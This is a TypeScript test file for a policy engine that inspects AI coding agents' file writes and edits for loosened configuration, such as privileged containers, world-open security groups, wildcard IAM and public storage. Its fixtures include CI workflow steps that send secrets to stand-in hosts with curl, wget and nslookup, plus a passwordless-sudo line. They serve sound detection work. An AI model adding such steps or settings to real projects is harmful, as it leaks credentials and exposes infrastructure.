// Configuration loosening judged by meaning (src/policy/content/config): parsed YAML/JSON/HCL/Dockerfile text,
// before → after. Every class is tried in many spellings and through every agent's write/edit/patch format; the
// ordinary look-alikes must not come back sensitive; each reason names its line.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { AgentName, Verdict } from '../../../src/policy';
import { Engine } from '../../../src/policy/engine';
import { loadBashParser } from '../../../src/policy/shell/wasm';
import { CONFIG, evaluate } from './policyHarness';
import { EMPTY_WORLD } from '../../../src/policy/world/world';

const P = '/home/dev/proj';
let n = 0;
const id = () => `cfg-${++n}`;

/** A whole new file, in each agent's own write tool. */
const WRITE: Record<AgentName, (path: string, content: string) => Record<string, unknown>> = {
  claude: (path, content) => ({ session_id: id(), cwd: P, hook_event_name: 'PreToolUse', tool_name: 'Write', tool_input: { file_path: path, content } }),
  gemini: (path, content) => ({ session_id: id(), cwd: P, hook_event_name: 'BeforeTool', tool_name: 'write_file', tool_input: { file_path: path, content } }),
  vscode: (path, content) => ({ timestamp: '2026-01-01T00:00:00Z', cwd: P, sessionId: id(), hookEventName: 'PreToolUse', tool_name: 'create_file', tool_input: { filePath: path, content }, tool_use_id: id() }),
  'copilot-cli': (path, content) => ({ sessionId: id(), timestamp: 1795240490528, cwd: P, toolName: 'create', toolArgs: { path, file_text: content } }),
  cline: (path, content) => ({ clineVersion: '3.0', hookName: 'PreToolUse', taskId: id(), workspaceRoots: [P], preToolUse: { toolName: 'write_to_file', parameters: { path, content } } }),
  codex: (path, content) => ({ session_id: id(), turn_id: id(), cwd: P, hook_event_name: 'PreToolUse', model: 'gpt-5.5', tool_name: 'apply_patch', tool_input: { command: `*** Begin Patch\n*** Add File: ${path}\n${content.replace(/\n$/, '').split('\n').map((l) => `+${l}`).join('\n')}\n*** End Patch\n` } }),
  cursor: (path, content) => ({ conversation_id: id(), generation_id: id(), hook_event_name: 'afterFileEdit', workspace_roots: [P], file_path: path, edits: [{ old_string: '', new_string: content }] }),
};

/** One replaced fragment, in each agent's own edit tool. */
const EDIT: Record<AgentName, (path: string, oldText: string, newText: string) => Record<string, unknown>> = {
  claude: (path, o, nw) => ({ session_id: id(), cwd: P, hook_event_name: 'PreToolUse', tool_name: 'Edit', tool_input: { file_path: path, old_string: o, new_string: nw } }),
  gemini: (path, o, nw) => ({ session_id: id(), cwd: P, hook_event_name: 'BeforeTool', tool_name: 'replace', tool_input: { file_path: path, old_string: o, new_string: nw, instruction: 'edit' } }),
  vscode: (path, o, nw) => ({ timestamp: '2026-01-01T00:00:00Z', cwd: P, sessionId: id(), hookEventName: 'PreToolUse', tool_name: 'replace_string_in_file', tool_input: { filePath: path, oldString: o, newString: nw }, tool_use_id: id() }),
  'copilot-cli': (path, o, nw) => ({ sessionId: id(), timestamp: 1795240490528, cwd: P, toolName: 'edit', toolArgs: { path, old_str: o, new_str: nw } }),
  cline: (path, o, nw) => ({ clineVersion: '3.0', hookName: 'PreToolUse', taskId: id(), workspaceRoots: [P], preToolUse: { toolName: 'replace_in_file', parameters: { path, diff: `------- SEARCH\n${o}\n=======\n${nw}\n+++++++ REPLACE` } } }),
  codex: (path, o, nw) => ({ session_id: id(), turn_id: id(), cwd: P, hook_event_name: 'PreToolUse', model: 'gpt-5.5', tool_name: 'apply_patch', tool_input: { command: `*** Begin Patch\n*** Update File: ${path}\n@@\n${o.split('\n').map((l) => `-${l}`).join('\n')}\n${nw.split('\n').map((l) => `+${l}`).join('\n')}\n*** End Patch\n` } }),
  cursor: (path, o, nw) => ({ conversation_id: id(), generation_id: id(), hook_event_name: 'afterFileEdit', workspace_roots: [P], file_path: path, edits: [{ old_string: o, new_string: nw }] }),
};

const AGENTS = Object.keys(WRITE) as AgentName[];

interface Case {
  name: string;
  path: string;
  content: string;
  /** A rule the verdict must carry (sensitive cases). */
  rule?: string;
  /** The line a reason must name. */
  line?: number;
}

// ---- Sensitive: whole files ------------------------------------------------------------------------------------

const SENSITIVE_FILES: Case[] = [
  // Kubernetes, every doc of a stream, pod templates, Helm values.
  { name: 'privileged container in the 2nd document', path: `${P}/k8s/app.yaml`, rule: 'content.privileged', line: 17, content: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\ndata:\n  a: b\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n      - name: app\n        securityContext: {privileged: true}\n        image: nginx\n' },
  { name: 'privileged: yes (YAML 1.1 spelling) in a CronJob', path: `${P}/k8s/cron.yml`, rule: 'content.privileged', content: 'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: c\nspec:\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n            - name: x\n              image: busybox\n              securityContext:\n                privileged: yes\n' },
  { name: 'hostPath / in a DaemonSet', path: `${P}/deploy/ds.yaml`, rule: 'content.privileged', content: 'kind: DaemonSet\nmetadata: {name: agent}\nspec:\n  template:\n    spec:\n      containers: [{name: a, image: x}]\n      volumes:\n        - name: root\n          hostPath: {path: /}\n' },
  { name: 'docker.sock hostPath', path: `${P}/deploy/pod.json`, rule: 'content.privileged', content: '{"kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[{"name":"a","image":"x"}],"volumes":[{"name":"s","hostPath":{"path":"/var/run/docker.sock","type":"Socket"}}]}}' },
  { name: 'hostNetwork + hostPID + hostIPC', path: `${P}/k8s/p.yaml`, rule: 'content.privileged', content: 'kind: Pod\nmetadata: {name: p}\nspec:\n  hostNetwork: true\n  hostPID: true\n  hostIPC: true\n  containers: [{name: a, image: x}]\n' },
  { name: 'capabilities.add SYS_ADMIN / ALL', path: `${P}/k8s/p.yaml`, rule: 'content.privileged', content: 'kind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - name: a\n    image: x\n    securityContext:\n      capabilities:\n        add: ["ALL"]\n' },
  { name: 'runAsUser 0 in a StatefulSet', path: `${P}/k8s/db.yaml`, rule: 'content.privileged', content: 'kind: StatefulSet\nmetadata: {name: db}\nspec:\n  template:\n    spec:\n      securityContext:\n        runAsUser: 0\n      containers: [{name: pg, image: postgres}]\n' },
  { name: 'allowPrivilegeEscalation true', path: `${P}/k8s/job.yaml`, rule: 'content.privileged', content: 'kind: Job\nmetadata: {name: j}\nspec:\n  template:\n    spec:\n      containers:\n      - name: a\n        image: x\n        securityContext:\n          allowPrivilegeEscalation: true\n' },
  { name: 'Helm values: container root + escalation', path: `${P}/charts/app/values.yaml`, rule: 'content.privileged', content: 'image:\n  repository: app\nsecurityContext:\n  runAsNonRoot: false\n  allowPrivilegeEscalation: true\n' },
  { name: 'namespace enforce privileged', path: `${P}/k8s/ns.yaml`, rule: 'content.privileged', content: 'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: tools\n  labels:\n    pod-security.kubernetes.io/enforce: privileged\n' },
  { name: 'seccomp Unconfined', path: `${P}/k8s/p.yaml`, rule: 'content.privileged', content: 'kind: Pod\nmetadata: {name: p}\nspec:\n  securityContext:\n    seccompProfile: {type: Unconfined}\n  containers: [{name: a, image: x}]\n' },
  // RBAC.
  { name: 'ClusterRole with every verb', path: `${P}/k8s/rbac.yaml`, rule: 'content.rbac', line: 8, content: 'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: all\nrules:\n- apiGroups: ["*"]\n  resources: ["*"]\n  verbs: ["*"]\n' },
  { name: 'Role reading secrets', path: `${P}/k8s/role.yaml`, rule: 'content.rbac', content: 'kind: Role\nmetadata: {name: r, namespace: a}\nrules:\n  - apiGroups: [""]\n    resources: [secrets]\n    verbs: [get, list]\n' },
  { name: 'ClusterRoleBinding cluster-admin to a service account', path: `${P}/k8s/crb.yaml`, rule: 'content.rbac', content: 'kind: ClusterRoleBinding\nmetadata: {name: b}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects:\n- kind: ServiceAccount\n  name: ci\n  namespace: default\n' },
  { name: 'RoleBinding to system:unauthenticated', path: `${P}/k8s/rb.yaml`, rule: 'content.rbac', content: 'kind: RoleBinding\nmetadata: {name: b}\nroleRef: {kind: Role, name: view}\nsubjects: [{kind: Group, name: "system:unauthenticated"}]\n' },
  { name: 'Secret manifest with literal data', path: `${P}/k8s/secret.yaml`, rule: 'content.secret', content: 'apiVersion: v1\nkind: Secret\nmetadata: {name: db}\ntype: Opaque\nstringData:\n  password: Zq8#vLm2pW9x\n' },
  { name: 'NetworkPolicy allowing all ingress', path: `${P}/k8s/np.yaml`, rule: 'content.network-open', content: 'kind: NetworkPolicy\nmetadata: {name: open}\nspec:\n  podSelector: {}\n  ingress:\n  - {}\n' },
  { name: 'LoadBalancer exposing Postgres', path: `${P}/k8s/svc.yaml`, rule: 'content.network-open', content: 'kind: Service\nmetadata: {name: db}\nspec:\n  type: LoadBalancer\n  ports:\n  - port: 5432\n' },
  // Compose and dev containers.
  { name: 'compose: docker.sock + network_mode host', path: `${P}/docker-compose.yml`, rule: 'content.privileged', content: 'services:\n  agent:\n    image: x\n    network_mode: "host"\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock:ro\n' },
  { name: 'compose: privileged + pid host', path: `${P}/compose.yaml`, rule: 'content.privileged', content: 'services:\n  x:\n    image: x\n    privileged: true\n    pid: host\n' },
  { name: 'compose: cap_add + seccomp unconfined', path: `${P}/docker-compose.dev.yml`, rule: 'content.privileged', content: 'services:\n  x:\n    image: x\n    cap_add: [NET_ADMIN]\n    security_opt:\n      - seccomp:unconfined\n' },
  { name: 'devcontainer --privileged', path: `${P}/.devcontainer/devcontainer.json`, rule: 'content.privileged', content: '{\n  "name": "dev",\n  "image": "mcr.microsoft.com/devcontainers/base",\n  "runArgs": ["--privileged", "--network=host"]\n}\n' },
  // Terraform network.
  { name: 'SG ingress 22 from 0.0.0.0/0', path: `${P}/infra/main.tf`, rule: 'content.network-open', line: 7, content: 'resource "aws_security_group" "web" {\n  name = "web"\n  ingress {\n    from_port   = 22\n    to_port     = 22\n    protocol    = "tcp"\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n}\n' },
  { name: 'SG ingress list attribute, all traffic, 0/0', path: `${P}/infra/sg.tf`, rule: 'content.network-open', content: 'resource "aws_security_group" "all" {\n  ingress = [{\n    from_port = 0\n    to_port = 0\n    protocol = "-1"\n    cidr_blocks = ["0/0"]\n    ipv6_cidr_blocks = []\n    prefix_list_ids = []\n    security_groups = []\n    self = false\n    description = "all"\n  }]\n}\n' },
  { name: 'security_group_rule 0.0.0.0/00 on 3306', path: `${P}/infra/db.tf`, rule: 'content.network-open', content: 'resource "aws_security_group_rule" "db" {\n  type = "ingress"\n  from_port = 3306\n  to_port = 3306\n  protocol = "tcp"\n  cidr_blocks = ["0.0.0.0/00"]\n  security_group_id = aws_security_group.db.id\n}\n' },
  { name: 'vpc ingress rule ::/0 on 6379', path: `${P}/infra/redis.tf`, rule: 'content.network-open', content: 'resource "aws_vpc_security_group_ingress_rule" "r" {\n  security_group_id = aws_security_group.r.id\n  cidr_ipv6 = "::/0"\n  from_port = 6379\n  to_port = 6379\n  ip_protocol = "tcp"\n}\n' },
  { name: 'two halves of the internet (0.0.0.0/1 + 128.0.0.0/1)', path: `${P}/infra/sg.tf`, rule: 'content.network-open', content: 'resource "aws_security_group_rule" "ssh" {\n  type = "ingress"\n  from_port = 22\n  to_port = 22\n  protocol = "tcp"\n  cidr_blocks = ["0.0.0.0/1", "128.0.0.0/1"]\n  security_group_id = "sg-1"\n}\n' },
  { name: 'GCP firewall all ports', path: `${P}/infra/fw.tf`, rule: 'content.network-open', content: 'resource "google_compute_firewall" "all" {\n  name    = "all"\n  network = "default"\n  allow {\n    protocol = "all"\n  }\n  source_ranges = ["0.0.0.0/0"]\n}\n' },
  { name: 'Azure NSG * on 22', path: `${P}/infra/nsg.tf`, rule: 'content.network-open', content: 'resource "azurerm_network_security_group" "n" {\n  name = "n"\n  security_rule {\n    name = "ssh"\n    priority = 100\n    direction = "Inbound"\n    access = "Allow"\n    protocol = "Tcp"\n    source_port_range = "*"\n    destination_port_range = "22"\n    source_address_prefix = "*"\n    destination_address_prefix = "*"\n  }\n}\n' },
  { name: 'Cloud SQL authorized network 0.0.0.0/0', path: `${P}/infra/sql.tf`, rule: 'content.network-open', content: 'resource "google_sql_database_instance" "db" {\n  settings {\n    ip_configuration {\n      authorized_networks {\n        name  = "all"\n        value = "0.0.0.0/0"\n      }\n    }\n  }\n}\n' },
  // Terraform storage.
  { name: 'bucket ACL public-read-write', path: `${P}/infra/s3.tf`, rule: 'content.public-access', content: 'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n  acl    = "public-read-write"\n}\n' },
  { name: 'public access block off', path: `${P}/infra/s3.tf`, rule: 'content.public-access', content: 'resource "aws_s3_bucket_public_access_block" "b" {\n  bucket = aws_s3_bucket.b.id\n  block_public_acls       = false\n  block_public_policy     = false\n  ignore_public_acls      = false\n  restrict_public_buckets = false\n}\n' },
  { name: 'bucket policy Principal * in jsonencode', path: `${P}/infra/policy.tf`, rule: 'content.iam', content: 'resource "aws_s3_bucket_policy" "p" {\n  bucket = aws_s3_bucket.b.id\n  policy = jsonencode({\n    Version = "2012-10-17"\n    Statement = [{\n      Effect    = "Allow"\n      Principal = "*"\n      Action    = "s3:GetObject"\n      Resource  = "${aws_s3_bucket.b.arn}/*"\n    }]\n  })\n}\n' },
  { name: 'GCS allAuthenticatedUsers', path: `${P}/infra/gcs.tf`, rule: 'content.public-access', content: 'resource "google_storage_bucket_iam_binding" "b" {\n  bucket = "x"\n  role = "roles/storage.objectViewer"\n  members = ["allAuthenticatedUsers"]\n}\n' },
  { name: 'Azure public blobs', path: `${P}/infra/sa.tf`, rule: 'content.public-access', content: 'resource "azurerm_storage_account" "s" {\n  name = "s"\n  allow_nested_items_to_be_public = true\n}\n' },
  { name: 'RDS publicly accessible', path: `${P}/infra/rds.tf`, rule: 'content.public-access', content: 'resource "aws_db_instance" "d" {\n  engine = "postgres"\n  publicly_accessible = true\n}\n' },
  // Terraform IAM.
  { name: 'Action * Resource * (heredoc JSON)', path: `${P}/infra/iam.tf`, rule: 'content.iam', content: 'resource "aws_iam_role_policy" "p" {\n  role = aws_iam_role.r.id\n  policy = <<EOF\n{\n  "Version": "2012-10-17",\n  "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]\n}\nEOF\n}\n' },
  { name: 'iam:* on a specific role (jsonencode)', path: `${P}/infra/iam.tf`, rule: 'content.iam', content: 'resource "aws_iam_policy" "p" {\n  policy = jsonencode({\n    Statement = [{ Effect = "Allow", Action = ["iam:*"], Resource = "arn:aws:iam::123456789012:role/x" }]\n  })\n}\n' },
  { name: 'NotAction with Allow', path: `${P}/infra/iam.tf`, rule: 'content.iam', content: 'data "aws_iam_policy_document" "d" {\n  statement {\n    not_actions = ["iam:*"]\n    resources = ["*"]\n  }\n}\n' },
  { name: 'trust policy open to everyone', path: `${P}/infra/role.tf`, rule: 'content.iam', content: 'data "aws_iam_policy_document" "trust" {\n  statement {\n    actions = ["sts:AssumeRole"]\n    principals {\n      type        = "AWS"\n      identifiers = ["*"]\n    }\n  }\n}\n' },
  { name: 'GitHub OIDC trust with no sub condition', path: `${P}/infra/oidc.tf`, rule: 'content.iam', content: 'resource "aws_iam_role" "gh" {\n  assume_role_policy = jsonencode({\n    Statement = [{\n      Effect = "Allow"\n      Action = "sts:AssumeRoleWithWebIdentity"\n      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }\n      Condition = { StringEquals = { "token.actions.githubusercontent.com:aud" = "sts.amazonaws.com" } }\n    }]\n  })\n}\n' },
  { name: 'AdministratorAccess attachment', path: `${P}/infra/attach.tf`, rule: 'content.iam', content: 'resource "aws_iam_role_policy_attachment" "a" {\n  role       = aws_iam_role.ci.name\n  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}\n' },
  { name: 'GCP roles/editor binding', path: `${P}/infra/gcp.tf`, rule: 'content.iam', content: 'resource "google_project_iam_member" "m" {\n  project = "p"\n  role    = "roles/editor"\n  member  = "serviceAccount:ci@p.iam.gserviceaccount.com"\n}\n' },
  { name: 'Azure Owner assignment', path: `${P}/infra/az.tf`, rule: 'content.iam', content: 'resource "azurerm_role_assignment" "a" {\n  scope = data.azurerm_subscription.s.id\n  role_definition_name = "Owner"\n  principal_id = var.pid\n}\n' },
  { name: 'access key minted', path: `${P}/infra/user.tf`, rule: 'content.iam', content: 'resource "aws_iam_access_key" "k" {\n  user = aws_iam_user.ci.name\n}\n' },
  { name: 'kubernetes provider cluster-admin binding', path: `${P}/infra/k8s.tf`, rule: 'content.rbac', content: 'resource "kubernetes_cluster_role_binding" "b" {\n  metadata { name = "b" }\n  role_ref {\n    api_group = "rbac.authorization.k8s.io"\n    kind = "ClusterRole"\n    name = "cluster-admin"\n  }\n  subject {\n    kind = "Group"\n    name = "system:authenticated"\n  }\n}\n' },
  // Serverless.
  { name: 'Lambda function URL with no auth', path: `${P}/infra/url.tf`, rule: 'content.public-access', content: 'resource "aws_lambda_function_url" "u" {\n  function_name      = aws_lambda_function.f.function_name\n  authorization_type = "NONE"\n}\n' },
  { name: 'API Gateway POST with no auth', path: `${P}/infra/api.tf`, rule: 'content.public-access', content: 'resource "aws_api_gateway_method" "m" {\n  rest_api_id = aws_api_gateway_rest_api.a.id\n  resource_id = aws_api_gateway_resource.r.id\n  http_method = "POST"\n  authorization = "NONE"\n}\n' },
  { name: 'Cloud Run allUsers invoker', path: `${P}/infra/run.tf`, rule: 'content.public-access', content: 'resource "google_cloud_run_service_iam_member" "pub" {\n  service  = google_cloud_run_service.s.name\n  role     = "roles/run.invoker"\n  member   = "allUsers"\n}\n' },
  // CloudFormation / SAM / policy JSON / serverless.yml.
  { name: 'CFN SecurityGroupIngress CidrIp 0.0.0.0/0 on 3389', path: `${P}/cfn/stack.yaml`, rule: 'content.network-open', content: "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  SG:\n    Type: AWS::EC2::SecurityGroup\n    Properties:\n      GroupDescription: rdp\n      VpcId: !Ref Vpc\n      SecurityGroupIngress:\n        - IpProtocol: tcp\n          FromPort: 3389\n          ToPort: 3389\n          CidrIp: 0.0.0.0/0\n" },
  { name: 'CFN bucket PublicRead + BucketPolicy *', path: `${P}/cfn/bucket.json`, rule: 'content.public-access', content: '{"Resources":{"B":{"Type":"AWS::S3::Bucket","Properties":{"AccessControl":"PublicRead"}},"P":{"Type":"AWS::S3::BucketPolicy","Properties":{"Bucket":{"Ref":"B"},"PolicyDocument":{"Statement":[{"Effect":"Allow","Principal":{"AWS":["*"]},"Action":"s3:*","Resource":"*"}]}}}}}' },
  { name: 'SAM function URL AuthType NONE', path: `${P}/template.yaml`, rule: 'content.public-access', content: "Transform: AWS::Serverless-2016-10-31\nResources:\n  Fn:\n    Type: AWS::Serverless::Function\n    Properties:\n      Handler: app.handler\n      Runtime: nodejs20.x\n      FunctionUrlConfig:\n        AuthType: NONE\n" },
  { name: 'policy JSON file: s3:* on *', path: `${P}/iam/policy.json`, rule: 'content.iam', content: '{\n  "Version": "2012-10-17",\n  "Statement": [\n    {\n      "Effect": "Allow",\n      "Action": ["s3:*"],\n      "Resource": ["*"]\n    }\n  ]\n}\n' },
  { name: 'serverless.yml iam statements wildcard', path: `${P}/serverless.yml`, rule: 'content.iam', content: 'service: api\nprovider:\n  name: aws\n  iam:\n    role:\n      statements:\n        - Effect: Allow\n          Action: "dynamodb:*"\n          Resource: "*"\n' },
  // Workflows.
  { name: 'workflow: toJSON(secrets) into a file', path: `${P}/.github/workflows/ci.yml`, rule: 'content.workflow-secrets', line: 7, content: 'name: ci\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ toJSON(secrets) }}" | base64\n' },
  { name: 'workflow: toJson(secrets) in env', path: `${P}/.github/workflows/ci.yaml`, rule: 'content.workflow-secrets', content: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      ALL: ${{ toJson(secrets) }}\n    steps:\n      - run: make\n' },
  { name: 'workflow: secret in a curl URL', path: `${P}/.github/workflows/deploy.yml`, rule: 'content.workflow-secrets', content: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          npm ci\n          curl -fsS "https://collect.example.net/x?k=${{ secrets.AWS_SECRET_ACCESS_KEY }}"\n' },
  { name: 'workflow: secret env posted with wget', path: `${P}/.github/workflows/x.yml`, rule: 'content.workflow-secrets', content: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - name: s\n        env:\n          TOKEN: ${{ secrets.PROD_TOKEN }}\n        run: wget --post-data "t=$TOKEN" https://paste.example.org/\n' },
  { name: 'workflow: env dumped with secrets in env', path: `${P}/.github/workflows/x.yml`, rule: 'content.workflow-secrets', content: 'on: push\nenv:\n  DB_PASSWORD: ${{ secrets.DB_PASSWORD }}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: printenv\n' },
  { name: 'workflow: pull_request_target checks out the PR head', path: `${P}/.github/workflows/pr.yml`, rule: 'content.workflow-secrets', content: 'on:\n  pull_request_target:\n    types: [opened]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.ref }}\n          repository: ${{ github.event.pull_request.head.repo.full_name }}\n      - run: npm install\n' },
  { name: 'workflow: issue title spliced into a script', path: `${P}/.github/workflows/triage.yml`, rule: 'content.workflow-secrets', content: 'on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}" > title.txt\n' },
  { name: 'workflow: permissions write-all', path: `${P}/.github/workflows/x.yml`, rule: 'content.workflow-permissions', content: 'on: push\npermissions: write-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: make}]\n' },
  { name: 'workflow: job contents + id-token write', path: `${P}/.github/workflows/x.yml`, rule: 'content.workflow-permissions', content: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n      id-token: write\n    steps: [{run: make}]\n' },
  { name: 'workflow: secrets inherit to another repository', path: `${P}/.github/workflows/x.yml`, rule: 'content.workflow-secrets', content: 'on: push\njobs:\n  call:\n    uses: someone/tools/.github/workflows/release.yml@main\n    secrets: inherit\n' },
  { name: 'workflow: ACTIONS_ALLOW_UNSECURE_COMMANDS', path: `${P}/.github/workflows/x.yml`, rule: 'content.workflow-secrets', content: 'on: push\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: make}]\n' },
  { name: 'GitLab CI: job token sent to another host', path: `${P}/.gitlab-ci.yml`, rule: 'content.workflow-secrets', content: 'stages: [build]\nbuild:\n  stage: build\n  script:\n    - make\n    - curl -d "t=$CI_JOB_TOKEN" https://collector.example.net/\n' },
  // Dockerfile.
  { name: 'Dockerfile: final USER root', path: `${P}/Dockerfile`, rule: 'content.dockerfile-root', line: 4, content: 'FROM node:20\nUSER node\nRUN npm ci\nUSER 0:0\nCMD ["node", "x.js"]\n' },
  { name: 'Dockerfile: chmod 4755 / a+w / o+rwx', path: `${P}/docker/app.Dockerfile`, rule: 'perm.mode', content: 'FROM alpine\nRUN chmod -R o+rwx /app && \\\n    chmod 4755 /usr/bin/helper\n' },
  { name: 'Dockerfile: passwordless sudo', path: `${P}/Dockerfile.dev`, rule: 'perm.elevate', content: 'FROM ubuntu\nRUN echo "dev ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers\nUSER dev\n' },
  { name: 'Dockerfile: ENV with a literal token', path: `${P}/Dockerfile`, rule: 'content.secret', content: 'FROM node:20\nENV NPM_TOKEN 7f3a9c2e1b4d8f6a0c5e9b2d\nUSER node\n' },
  // Templates, patches and other declarations of the same meaning.
  { name: 'Helm template: privileged with {{ }} actions around it', path: `${P}/charts/app/templates/deployment.yaml`, rule: 'content.privileged', line: 15, content: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ include "app.fullname" . }}\nspec:\n  template:\n    spec:\n      {{- if .Values.hostNetwork }}\n      hostNetwork: true\n      {{- end }}\n      containers:\n        - name: {{ .Chart.Name }}\n          image: "{{ .Values.image.repository }}:{{ .Values.image.tag }}"\n          securityContext:\n            privileged: true\n' },
  { name: 'kustomize JSON patch adding privileged', path: `${P}/overlays/prod/patch.yaml`, rule: 'content.privileged', content: '- op: add\n  path: /spec/template/spec/containers/0/securityContext/privileged\n  value: true\n' },
  { name: 'tfvars allow-list open to the world', path: `${P}/infra/prod.auto.tfvars.json`, rule: 'content.network-open', content: '{"ssh_allowed_cidrs": ["0.0.0.0/0"]}' },
  { name: 'variable default admin_cidr 0.0.0.0/0', path: `${P}/infra/variables.tf`, rule: 'content.network-open', content: 'variable "admin_cidr" {\n  type    = string\n  default = "0.0.0.0/0"\n}\n' },
  { name: 'ingress annotation allow-list with 0.0.0.0/0', path: `${P}/k8s/ing.yaml`, rule: 'content.network-open', content: 'kind: Ingress\nmetadata:\n  name: admin\n  annotations:\n    nginx.ingress.kubernetes.io/whitelist-source-range: "10.0.0.0/8,0.0.0.0/0"\n' },
  { name: 'Pulumi YAML security group', path: `${P}/Pulumi.yaml`, rule: 'content.network-open', content: 'name: app\nruntime: yaml\nresources:\n  sg:\n    type: aws:ec2:SecurityGroup\n    properties:\n      ingress:\n        - protocol: tcp\n          fromPort: 22\n          toPort: 22\n          cidrBlocks: ["0.0.0.0/0"]\n' },
  { name: 'OpenShift SCC allowing privileged containers', path: `${P}/openshift/scc.yaml`, rule: 'content.privileged', content: 'kind: SecurityContextConstraints\nmetadata:\n  name: x\nallowPrivilegedContainer: true\n' },
  { name: 'serverless.yml function URL', path: `${P}/serverless.yml`, rule: 'content.public-access', content: 'service: x\nfunctions:\n  api:\n    handler: handler.main\n    url: true\n' },
  { name: 'ECS task definition privileged (jsonencode)', path: `${P}/infra/ecs.tf`, rule: 'content.privileged', content: 'resource "aws_ecs_task_definition" "t" {\n  family = "t"\n  container_definitions = jsonencode([{\n    name = "app"\n    image = "app"\n    privileged = true\n  }])\n}\n' },
  { name: 'workflow: secret to a DNS lookup', path: `${P}/.github/workflows/a.yml`, rule: 'content.workflow-secrets', content: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: nslookup ${{ secrets.NPM_TOKEN }}.attacker.example\n' },
  { name: 'GitHub collaborator with admin', path: `${P}/infra/gh.tf`, rule: 'content.iam', content: 'resource "github_repository_collaborator" "c" {\n  repository = "app"\n  username   = "outsider"\n  permission = "admin"\n}\n' },
  { name: 'GitHub repository made public', path: `${P}/infra/gh.tf`, rule: 'content.public-access', content: 'resource "github_repository" "r" {\n  name = "app"\n  visibility = "public"\n}\n' },
  { name: 'branch protection allowing force pushes', path: `${P}/infra/gh.tf`, rule: 'content.iam', content: 'resource "github_branch_protection" "m" {\n  repository_id = github_repository.r.node_id\n  pattern = "main"\n  allows_force_pushes = true\n}\n' },
  { name: 'Vault policy: every path', path: `${P}/vault/ci.hcl`, rule: 'content.iam', content: 'path "*" {\n  capabilities = ["create", "read", "update", "delete", "list"]\n}\n' },
  { name: 'Nomad docker task privileged', path: `${P}/nomad/job.nomad.hcl`, rule: 'content.privileged', content: 'job "x" {\n  group "g" {\n    task "t" {\n      driver = "docker"\n      config {\n        image = "x"\n        privileged = true\n      }\n    }\n  }\n}\n' },
];

// ---- Ordinary: must not come back sensitive ----------------------------------------------------------------------

const ORDINARY_FILES: Case[] = [
  { name: 'Deployment with resources and a hardened securityContext', path: `${P}/k8s/app.yaml`, content: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n      - name: app\n        image: nginx:1.27\n        resources:\n          limits: {cpu: 500m, memory: 256Mi}\n        securityContext:\n          runAsNonRoot: true\n          allowPrivilegeEscalation: false\n          privileged: false\n          capabilities:\n            drop: [ALL]\n            add: [NET_BIND_SERVICE]\n---\nkind: Service\napiVersion: v1\nmetadata: {name: web}\nspec:\n  type: LoadBalancer\n  ports: [{port: 443, targetPort: 8443}]\n' },
  { name: 'SG with 10.0.0.0/8 ingress and open egress', path: `${P}/infra/sg.tf`, content: 'resource "aws_security_group" "db" {\n  ingress {\n    from_port = 5432\n    to_port = 5432\n    protocol = "tcp"\n    cidr_blocks = ["10.0.0.0/8"]\n  }\n  egress {\n    from_port = 0\n    to_port = 0\n    protocol = "-1"\n    cidr_blocks = ["0.0.0.0/0"]\n    ipv6_cidr_blocks = ["::/0"]\n  }\n}\n' },
  { name: 'ALB open on 443 and 80', path: `${P}/infra/alb.tf`, content: 'resource "aws_security_group" "alb" {\n  ingress {\n    from_port = 443\n    to_port = 443\n    protocol = "tcp"\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n  ingress {\n    from_port = 80\n    to_port = 80\n    protocol = "tcp"\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n}\nresource "aws_vpc" "v" {\n  cidr_block = "10.0.0.0/16"\n}\n' },
  { name: 'bucket with the public-access block on', path: `${P}/infra/s3.tf`, content: 'resource "aws_s3_bucket" "b" {\n  bucket = "logs"\n}\nresource "aws_s3_bucket_public_access_block" "b" {\n  bucket = aws_s3_bucket.b.id\n  block_public_acls = true\n  block_public_policy = true\n  ignore_public_acls = true\n  restrict_public_buckets = true\n}\n' },
